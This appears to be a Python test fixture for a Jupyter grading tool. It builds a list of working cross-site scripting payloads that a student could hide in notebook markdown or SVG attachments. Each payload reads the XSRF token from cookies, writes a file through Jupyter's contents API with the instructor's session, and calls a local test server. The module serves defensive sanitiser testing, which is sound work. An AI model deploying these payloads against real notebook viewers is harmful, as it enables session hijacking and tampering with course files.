"""Hostile content a student can put into a notebook, for the tests of every page an instructor or a student
opens (the feedback page, Formgrader's pages, the instructor's JupyterLab).

Each payload, if it ran in the instructor's browser, would do what the real attack does: mark the page
(``top.__pwned``), write a file into the course through Jupyter's contents API with the instructor's session,
and call a server the test starts (``http://127.0.0.1:PORT/...``). The tests check all three stay untouched.
"""

from __future__ import annotations

import base64

# Kinds of vector, one payload or more each: scripts, event handlers, frames and objects, forms, SVG and MathML,
# parser differentials (mXSS), links and URL schemes, fetching CSS and images, <base> and <meta>, MathJax.


def action(n: int, port: int) -> str:
    """JavaScript that leaves every trace a successful attack would (no double quotes: it goes into attributes)."""
    return (f"top.__pwned=(top.__pwned||[]).concat({n});"
            f"fetch('/api/contents/pwned-{n}.txt',{{method:'PUT',headers:{{'X-XSRFToken':"
            "document.cookie.replace(/.*_xsrf=([^;]*).*/,'$1')},"
            "body:JSON.stringify({type:'file',format:'text',content:'x'})});"
            f"new Image().src='http://127.0.0.1:{port}/js-{n}'")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def markdown_payloads(port: int) -> list[tuple[str, str]]:
    """(kind, markdown) pairs, each to be written into a markdown cell (a written answer)."""
    run = lambda n: action(n, port)   # noqa: E731
    there = f"http://127.0.0.1:{port}"
    return [
        ("script element", f"<script>{run(1)}</script>"),
        ("img onerror", f'<img src=x onerror="{run(2)}">'),
        ("svg onload", f'<svg onload="{run(3)}"><circle r="1"/></svg>'),
        ("script inside svg", f"<svg><script>{run(4)}</script></svg>"),
        ("details ontoggle", f'<details open ontoggle="{run(5)}"><summary>s</summary>d</details>'),
        ("iframe srcdoc", f'<iframe srcdoc="<script>{run(6).replace(chr(39), "&#39;")}</script>"></iframe>'),
        ("object data: URL", f'<object data="data:text/html;base64,{_b64("<script>" + run(7) + "</script>")}"></object>'),
        ("embed data: URL", f'<embed src="data:text/html;base64,{_b64("<script>" + run(8) + "</script>")}">'),
        ("form javascript: action", f'<form action="javascript:{run(9)}"><button>go</button></form>'),
        ("MathML mXSS", f'<math><mtext><table><mglyph><style><img src=x onerror="{run(10)}"></style></mglyph></table></mtext></math>'),
        ("CSS @import", f"<style>@import url({there}/css-import);</style>"),
        ("CSS background in a style attribute", f'<div style="background:url({there}/css-background)">bg</div>'),
        ("remote image", f'<img src="{there}/image">'),
        ("image on Jupyter's API", '<img src="/api/contents/fetched-by-an-image">'),
        ("stylesheet link", f'<link rel="stylesheet" href="{there}/stylesheet">'),
        ("base element", f'<base href="{there}/base/">'),
        ("meta refresh to javascript:", f'<meta http-equiv="refresh" content="0;url=javascript:{run(17)}">'),
        ("MathJax \\href", f"$\\href{{javascript:{run(18)}}}{{click}}$"),
        ("input autofocus onfocus", f'<input autofocus onfocus="{run(19)}">'),
        ("video source onerror", f'<video><source onerror="{run(20)}"></video>'),
        ("markdown javascript: link", f"[click](javascript:{run(21)})"),
        ("noscript mXSS", f"<noscript><p title=\"</noscript><img src=x onerror='{run(22)}'>\"></noscript>"),
        ("marquee onstart", f'<marquee onstart="{run(23)}">m</marquee>'),
        ("data: link", f'<a href="data:text/html,<script>{run(24)}</script>">d</a>'),
        ("body onload", f'<body onload="{run(25)}">'),
        ("SVG animate onbegin", f'<svg><animate onbegin="{run(26)}" attributeName="x" dur="1s"/></svg>'),
        ("javascript: link with entities", f'<a href="jav&#x09;ascript:{run(27)}">tab</a>'),
        ("SVG use of a data: document", f'<svg><use href="data:image/svg+xml;base64,{_b64("<svg id=x onload=" + chr(39) + run(28) + chr(39) + "/>")}#x"/></svg>'),
    ]


def svg_with_script(n: int, port: int) -> str:
    """An SVG image (base64, as an attachment or an output stores it) that would run script if shown inline."""
    return _b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{action(n, port)}"><script>{action(n + 1, port)}</script>'
                '<rect width="10" height="10"/></svg>')
